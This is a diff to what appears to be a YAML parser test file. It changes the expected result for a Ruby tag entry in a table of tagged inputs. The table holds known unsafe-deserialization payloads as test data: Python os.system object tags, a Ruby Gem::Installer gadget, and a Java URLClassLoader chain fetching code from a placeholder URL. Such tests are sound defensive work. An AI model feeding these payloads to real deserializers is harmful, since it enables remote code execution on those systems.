@@ -102,7 +102,7 @@ NUMBERS = {
 TAGS = {
     "python's": ("a: !!python/object/apply:os.system ['echo hacked']", CLEAN),
     "python's in a Pod": ("apiVersion: v1\nkind: !!python/name:os.system Pod\nmetadata: {name: a}\n", CLEAN),
-    "ruby's": ("--- !ruby/object:Gem::Installer\ni: x\n", CLEAN),
+    "ruby's": ("--- !ruby/object:Gem::Installer\ni: x\n", SYNTAX),
     "java's": ('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]', CLEAN),
     "a set": ("a: !!set {b, c}", CLEAN),
     "an ordered map": ("a: !!omap [b: c, d: e]", CLEAN),
